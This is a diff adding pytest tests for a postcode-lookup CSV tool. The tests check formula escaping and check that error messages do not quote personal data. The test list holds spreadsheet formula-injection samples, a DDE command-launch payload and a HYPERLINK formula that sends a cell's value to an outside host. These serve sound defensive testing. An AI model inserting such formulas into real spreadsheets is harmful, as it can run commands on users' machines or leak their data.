@@ -296,6 +296,65 @@ def test_a_workbook_is_read_and_a_csv_for_excel_is_written(run, tmp_path):
     assert written.decode("utf-8-sig").startswith("id\tPostcode\t")
 
 
+# Formulas: a spreadsheet runs what begins like one
+
+FORMULAS = [
+    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "\nx", "=", "-", "--5", "+44 7700 900123", "-3.5=1", "-A1"),
+    *('=HYPERLINK("http://example.org?x="&A1,"here")', "=cmd|' /C calc'!A0", " =1+1", "\u00a0=1", "\uff1d1+1", "-3\n"),
+]
+NO_FORMULAS = [
+    "-3.5",
+    "+44",
+    "+447700900123",
+    "-1,234.5",
+    "-.5",
+    "-5%",
+    "-1e5",
+    "5",
+    "x=1",
+    "'=1",
+    "",
+    "O'Brien",
+    "a-b",
+]
+
+
+def test_by_default_no_cell_is_changed_a_formula_neither(run):
+    cells = [*FORMULAS, *NO_FORMULAS]
+    text = io.StringIO(newline="")
+    csv.writer(text).writerows([["=note", "postcode"], *([value, "SW1A 1AA"] for value in cells)])
+    _, written, _ = run(text.getvalue())
+    found = list(csv.reader(io.StringIO(written.decode(), newline="")))
+    assert [row[0] for row in found] == ["=note", *cells]
+
+
+def test_formulas_are_escaped_where_that_is_asked_for(run):
+    cells = [*FORMULAS, *NO_FORMULAS]
+    text = io.StringIO(newline="")
+    csv.writer(text).writerows([["=note", "postcode", "-"], *([value, "SW1A 1AA", value] for value in cells)])
+    _, written, _ = run(text.getvalue(), "--escape-formulas", "--prefix", "=x_", "--columns", "decile,message")
+    header, *found = csv.reader(io.StringIO(written.decode(), newline=""))
+    assert header == ["'=note", "postcode", "'-", "'=x_status", "'=x_decile", "'=x_message"]
+    expected = [f"'{value}" for value in FORMULAS] + NO_FORMULAS
+    assert [row[0] for row in found] == expected
+    assert [row[2] for row in found] == expected
+    assert {row[3] for row in found} == {"found"}
+
+
+def test_an_escaped_postcode_is_looked_up_as_it_was_and_a_message_is_escaped_too(run):
+    text = "postcode\n\tSW1A 1AA\n=1+1\n"
+    _, written, _ = run(text, "--escape-formulas", "--columns", "message")
+    found = list(csv.reader(io.StringIO(written.decode(), newline="")))[1:]
+    assert [row[:2] for row in found] == [["'\tSW1A 1AA", "found"], ["'=1+1", "invalid"]]
+    assert not found[1][2].startswith(("=", "+", "-", "@"))
+
+
+def test_a_workbook_s_formulas_are_escaped_and_its_negative_numbers_stay(run, tmp_path):
+    content = workbook(tmp_path / "made.xlsx", [["postcode", "weight", "note"], ["SW1A 1AA", -3.5, "@x"]])
+    _, written, _ = run(content, "--escape-formulas", name="in.xlsx")
+    assert list(csv.reader(io.StringIO(written.decode("utf-8-sig"), newline="")))[1][:3] == ["SW1A 1AA", "-3.5", "'@x"]
+
+
 # What is refused: each names what is wrong, writes nothing and shows no cell
 
 PLAIN = "id,postcode\n1,SW1A 1AA\n"
@@ -305,6 +364,12 @@ REFUSED = {  # a table, options, what the message must name
     "no such column": ("id,code\n1,SW1A 1AA\n", [], ["'postcode'", "--postcode", "id, code"]),
     "a postcode for a header": ("1,SW1A 1AA\n2,ML1 1AA\n", [], ["first row", "column"]),
     "a number for a header": ("9434765919,Smith\n", [], ["first row", "column"]),
+    "a row with a date for a header": ("Smith,1/2/10\n", [], ["'postcode'", "2 columns are not shown"]),
+    "a row with a note for a header": (f"Smith,{'fell ' * 20}\n", [], ["'postcode'", "2 columns are not shown"]),
+    "a row with an address for a header": ("Smith,1 Mall SW1A 1AA London\n", [], ["'postcode'", "not shown"]),
+    "a row with an e-mail address for a header": ("Smith,x@y.example\n", [], ["'postcode'", "not shown"]),
+    "a row with an empty cell for a header": ("Smith,,M\n", [], ["'postcode'", "3 columns are not shown"]),
+    "a row with an age for a header": ("Smith,42\n", [], ["'postcode'", "not shown"]),
     "two such columns": ("postcode,postcode\nSW1A 1AA,x\n", [], ["2", "'postcode'"]),
     "an added column that is there": ("postcode,imd_decile\nSW1A 1AA,x\n", [], ["in.csv", "imd_decile", "--prefix"]),
     "a long row": ("id,postcode\n1,SW1A 1AA,secret\n", [], ["in.csv", "Row 2 ", " 3 ", " 2."]),
@@ -357,6 +422,28 @@ def test_a_text_that_the_encoding_has_not_is_an_error(run):
     assert "--columns" in told
     assert "Traceback" not in told
     assert run(content, "--columns", "message", "--encoding", "utf-8")[0] == 0
+
+
+def test_an_error_that_nobody_foresaw_quotes_no_cell(run, monkeypatch):
+    def fails(*_):
+        raise ValueError("could not convert 'SW1A 1AA' of Smith")
+
+    monkeypatch.setattr(append, "blocks", fails)
+    status, _, told = run(table(ASKED))
+    assert status == 1
+    assert "append.py: Internal error: ValueError at test_append.py, line " in told
+    assert "1AA" not in told
+    assert "Smith" not in told
+    assert "Traceback" not in told
+
+
+def test_memory_that_ends_is_an_error_in_words(run, monkeypatch):
+    def fails(*_):
+        raise MemoryError
+
+    monkeypatch.setattr(append, "blocks", fails)
+    status, _, told = run(table(ASKED))
+    assert (status, "not enough memory to read" in told) == (1, True)
 
 
 @pytest.mark.parametrize(
